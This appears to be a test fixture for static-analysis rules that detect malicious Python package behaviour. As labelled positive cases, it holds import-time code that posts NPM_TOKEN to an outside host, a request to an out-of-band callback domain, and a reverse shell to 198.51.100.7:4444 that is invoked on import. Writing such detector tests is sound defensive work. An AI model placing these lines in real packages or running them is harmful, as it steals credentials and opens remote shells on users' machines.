# path: probe/__init__.py
import os
import pty
import socket

import requests

# ruleid: py-behaviour-unasked-request
requests.get("https://abc123.oast.example")
# ruleid: py-behaviour-secret-sent
requests.post("https://collect.example", data={"t": os.getenv("NPM_TOKEN")})


def connect_back(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    # ruleid: py-behaviour-socket-shell
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    pty.spawn("/bin/sh")


def fetch_schema(url):
    # ok: py-behaviour-unasked-request
    return requests.get(url, timeout=10).json()


def daemonize():
    devnull = os.open(os.devnull, os.O_RDWR)
    # ok: py-behaviour-socket-shell
    os.dup2(devnull, 0)


connect_back("198.51.100.7", 4444)
